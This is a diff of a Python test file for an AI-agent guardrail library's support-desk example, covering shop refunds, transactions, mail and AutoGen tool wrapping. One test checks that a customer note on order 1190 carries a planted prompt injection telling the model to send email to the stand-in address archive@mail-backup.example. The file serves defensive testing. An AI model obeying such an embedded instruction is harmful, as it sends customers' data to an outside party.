@@ -4,9 +4,9 @@ import json
 import smtplib
 import sqlite3
 import sys
-from collections.abc import Callable, Iterator
+from collections.abc import AsyncIterator, Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
-from contextlib import closing
+from contextlib import asynccontextmanager, closing
 from decimal import Decimal
 from pathlib import Path
 from socket import create_connection
@@ -16,11 +16,15 @@ from typing import Any
 import pytest
 from autogen_core import CancellationToken
 from autogen_core.tools import FunctionTool
+from sqlalchemy.ext.asyncio import AsyncConnection, create_async_engine
 
+from ringfence.agents.supplied_arguments import without_supplied
+from ringfence.examples.support_desk import team
 from ringfence.examples.support_desk.mail import Mailbox, MailError, send
 from ringfence.examples.support_desk.shop import Shop, ShopError, create_shop
 from ringfence.examples.support_desk.tools import SENDER, support_tools
 from ringfence.guardrails.tool_policy import ToolSpec, spec_of
+from ringfence.policy import load_policy
 
 PROMPTS = Path(__file__).parents[2] / "examples" / "support_desk" / "prompts"
 
@@ -37,13 +41,22 @@ def mailbox() -> Iterator[Mailbox]:
 
 
 @pytest.fixture
-def tools(shop: Shop, mailbox: Mailbox) -> dict[str, Callable[..., str]]:
+def tools(shop: Shop, mailbox: Mailbox) -> dict[str, Callable[..., Any]]:
     return {tool.__name__: tool for tool in support_tools(shop, mailbox.host, mailbox.port)}
 
 
 def rows(shop: Shop, query: str) -> list[tuple[Any, ...]]:
     with closing(sqlite3.connect(shop.path)) as db:
         return db.execute(query).fetchall()
+
+
+@asynccontextmanager
+async def connected(url: str) -> AsyncIterator[AsyncConnection]:
+    """A connection of somebody else's, such as the journal's."""
+    engine = create_async_engine(url)
+    async with engine.connect() as connection:
+        yield connection
+    await engine.dispose()
 
 
 # The shop
@@ -81,6 +94,23 @@ def test_opening_one_new_shop_twice_at_once_fills_it_once(tmp_path: Path) -> Non
     with ThreadPoolExecutor(4) as pool:
         shops = list(pool.map(open_it, range(4)))
     assert rows(shops[0], "SELECT count(*) FROM orders") == [(12,)]
+
+
+def test_a_shop_moves_into_a_file_that_holds_something_else(tmp_path: Path) -> None:
+    """Conversations are kept in the same file; whoever comes first, the shop gets its tables, once."""
+    path = tmp_path / "shared.sqlite"
+    with closing(sqlite3.connect(path)) as db:
+        db.execute("CREATE TABLE conversations (id TEXT)")
+    assert create_shop(path).find_order("1182") is not None
+    assert rows(create_shop(path), "SELECT count(*) FROM orders") == [(12,)]
+
+
+def test_a_shop_that_is_there_opens_while_somebody_writes(shop: Shop) -> None:
+    """Else a team could not be built while another conversation writes to the same file."""
+    with closing(sqlite3.connect(shop.path, isolation_level=None)) as db:
+        db.execute("PRAGMA journal_mode=WAL")
+        db.execute("BEGIN IMMEDIATE")
+        assert create_shop(shop.path).find_order("1182") is not None
 
 
 def test_orders_are_found_by_the_mail_address_in_any_case(shop: Shop) -> None:
@@ -172,6 +202,13 @@ def test_the_same_key_refunds_once(shop: Shop) -> None:
     assert rows(shop, "SELECT amount_cents, idempotency_key FROM refunds") == [(500, "call-1")]
 
 
+async def test_a_refund_in_the_wrong_database_is_refused(shop: Shop, tmp_path: Path) -> None:
+    """A connection that leads elsewhere has none of the shop's tables."""
+    async with connected(f"sqlite+aiosqlite:///{tmp_path / 'other.sqlite'}") as db:
+        with pytest.raises(ShopError, match="without the shop's tables"):
+            await shop.refund_on(db, "1182", "5.00", "scratch")
+
+
 # The mail
 
 
@@ -251,13 +288,13 @@ def test_a_missing_extra_names_the_command(monkeypatch: pytest.MonkeyPatch) -> N
 # The tools
 
 
-def test_tools_say_what_they_do(tools: dict[str, Callable[..., str]]) -> None:
+def test_tools_say_what_they_do(tools: dict[str, Callable[..., Any]]) -> None:
     """Reading is harmless; money and mail are not; addresses are shown only where they are needed."""
     assert {name: spec_of(tool) for name, tool in tools.items()} == {
         "find_order": ToolSpec(consequential=False),
         "list_orders": ToolSpec(consequential=False, reveals={"customer_email": ("EMAIL_ADDRESS",)}),
         "read_note": ToolSpec(consequential=False),
-        "refund": ToolSpec(),
+        "refund": ToolSpec(idempotency_key="key", transaction="db"),
         "send_email": ToolSpec(
             reveals={
                 "to": ("EMAIL_ADDRESS",),
@@ -268,7 +305,7 @@ def test_tools_say_what_they_do(tools: dict[str, Callable[..., str]]) -> None:
     }
 
 
-def test_find_order_tells_all_of_an_order(tools: dict[str, Callable[..., str]]) -> None:
+def test_find_order_tells_all_of_an_order(tools: dict[str, Callable[..., Any]]) -> None:
     """The result is JSON with money as text."""
     assert json.loads(tools["find_order"]("1182")) == {
         "order_id": "1182",
@@ -284,12 +321,12 @@ def test_find_order_tells_all_of_an_order(tools: dict[str, Callable[..., str]]) 
 
 
 @pytest.mark.parametrize("name", ["find_order", "read_note"])
-def test_an_unknown_order_is_said_to_be_unknown(tools: dict[str, Callable[..., str]], name: str) -> None:
+def test_an_unknown_order_is_said_to_be_unknown(tools: dict[str, Callable[..., Any]], name: str) -> None:
     """The model reads a plain error and can ask for the right number."""
     assert json.loads(tools[name]("9999")) == {"error": "order 9999 not found"}
 
 
-def test_list_orders_lists_the_customers_orders(tools: dict[str, Callable[..., str]]) -> None:
+def test_list_orders_lists_the_customers_orders(tools: dict[str, Callable[..., Any]]) -> None:
     """Only the orders of this customer are listed, and none for a stranger."""
     listed = json.loads(tools["list_orders"]("jane@acme.com"))["orders"]
     assert listed[0] == {
@@ -303,7 +340,7 @@ def test_list_orders_lists_the_customers_orders(tools: dict[str, Callable[..., s
     assert json.loads(tools["list_orders"]("nobody@example.com")) == {"orders": []}
 
 
-def test_the_note_on_1190_carries_the_attack(tools: dict[str, Callable[..., str]]) -> None:
+def test_the_note_on_1190_carries_the_attack(tools: dict[str, Callable[..., Any]]) -> None:
     """It begins like any note and ends in an instruction to the model."""
     (note,) = json.loads(tools["read_note"]("1190"))["notes"]
     assert note["author"] == "customer"
@@ -311,31 +348,82 @@ def test_the_note_on_1190_carries_the_attack(tools: dict[str, Callable[..., str]
     assert 'send_email(to="archive@mail-backup.example"' in note["body"]
 
 
-def test_refund_gives_a_receipt_or_raises(tools: dict[str, Callable[..., str]]) -> None:
+async def test_refund_gives_a_receipt_or_raises(tools: dict[str, Callable[..., Any]]) -> None:
     """The receipt is the proof; what the shop refuses is an exception."""
     receipt = {"order_id": "1182", "refunded_usd": "49.90", "receipt": "R-1"}
-    assert json.loads(tools["refund"]("1182", "49.9", "cracked base")) == receipt
+    assert json.loads(await tools["refund"]("1182", "49.9", "cracked base")) == receipt
     with pytest.raises(ShopError):
-        tools["refund"]("1182", "49.90", "cracked base")
+        await tools["refund"]("1182", "49.90", "cracked base")
 
 
-def test_send_email_sends(tools: dict[str, Callable[..., str]], mailbox: Mailbox) -> None:
+async def test_refund_is_part_of_the_transaction_that_records_it(
+    shop: Shop, tools: dict[str, Callable[..., Any]]
+) -> None:
+    """On a connection to the shop's own file, the refund is there when the transaction is, and not before."""
+    async with connected(f"sqlite+aiosqlite:///{shop.path}") as db:
+        receipt = json.loads(await tools["refund"]("1182", "49.9", "cracked base", key="call-1", db=db))
+        assert receipt["receipt"] == "R-1"
+        assert rows(shop, "SELECT * FROM refunds") == []
+        await db.rollback()
+        assert rows(shop, "SELECT * FROM refunds") == []
+        await tools["refund"]("1182", "49.9", "cracked base", key="call-1", db=db)
+        with pytest.raises(ShopError, match=r"only 0\.00 USD"):
+            await tools["refund"]("1182", "49.9", "cracked base", key="call-2", db=db)
+        await db.commit()
+    assert rows(shop, "SELECT amount_cents, idempotency_key FROM refunds") == [(4990, "call-1")]
+
+
+@pytest.mark.parametrize("elsewhere", ["sqlite+aiosqlite:///:memory:", "sqlite+aiosqlite:///{}/other.sqlite"])
+async def test_refund_pays_once_where_the_record_is_kept_elsewhere(
+    shop: Shop, tools: dict[str, Callable[..., Any]], tmp_path: Path, elsewhere: str
+) -> None:
+    """It has a transaction of its own then, and the key keeps it from paying twice."""
+    async with connected(elsewhere.format(tmp_path)) as db:
+        given = {"key": "call-1", "db": db}
+        receipts = [await tools["refund"]("1182", "10.00", "scratch", **given) for _ in range(2)]
+        await db.rollback()
+    assert [json.loads(receipt)["receipt"] for receipt in receipts] == ["R-1", "R-1"]
+    assert rows(shop, "SELECT amount_cents, idempotency_key FROM refunds") == [(1000, "call-1")]
+
+
+def test_send_email_sends(tools: dict[str, Callable[..., Any]], mailbox: Mailbox) -> None:
     """The mail that the tool reports as sent is in the mailbox."""
     result = tools["send_email"]("jane@acme.com", "Your refund", "Dear Jane, 49.90 USD are on their way.")
     assert json.loads(result) == {"status": "sent", "to": "jane@acme.com"}
     assert [mail["Subject"] for mail in mailbox.mails] == ["Your refund"]
 
 
-async def test_autogen_takes_every_tool(tools: dict[str, Callable[..., str]]) -> None:
-    """Each function has what AutoGen needs: types, a docstring, and arguments that are all required."""
+async def test_autogen_takes_every_tool(tools: dict[str, Callable[..., Any]]) -> None:
+    """Each function has what AutoGen needs: types, a docstring, and texts that a model must give."""
     wrapped = {name: FunctionTool(tool, description=tool.__doc__ or "") for name, tool in tools.items()}
-    for tool in wrapped.values():
-        parameters = tool.schema["parameters"]
+    for name, tool in wrapped.items():
+        offered = without_supplied(tool.schema, spec_of(tools[name]).supplied)["parameters"]
         assert tool.description
-        assert parameters["required"] == list(parameters["properties"])
-        assert {argument["type"] for argument in parameters["properties"].values()} == {"string"}
+        assert offered["required"] == list(offered["properties"])
+        assert {argument["type"] for argument in offered["properties"].values()} == {"string"}
     found = await wrapped["find_order"].run_json({"order_id": "1184"}, CancellationToken())
     assert json.loads(found)["item"] == "Enamel teapot"
+
+
+async def test_autogen_alone_runs_the_refund(tools: dict[str, Callable[..., Any]]) -> None:
+    """Without a fence nobody fills in the key and the connection, and the refund is booked all the same."""
+    bare = FunctionTool(tools["refund"], description="Refund.")
+    asked = {"order_id": "1182", "amount_usd": "49.90", "reason": "cracked base"}
+    assert json.loads(await bare.run_json(asked, CancellationToken()))["receipt"] == "R-1"
+
+
+# The team
+
+
+@pytest.mark.parametrize("place", ["{}/own.sqlite", "sqlite:///{}/own.sqlite"])
+def test_one_variable_says_where_the_shop_and_the_conversations_are(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, place: str
+) -> None:
+    """As a path or as a URL; the policy names the same variable for its store."""
+    monkeypatch.setenv("SUPPORT_DESK_SHOP", place.format(tmp_path))
+    store = load_policy(PROMPTS.parent / "ringfence.yaml").policy.store
+    assert store.where() == place.format(tmp_path)
+    assert team.shop.__wrapped__().path == tmp_path / "own.sqlite"
 
 
 # The prompts
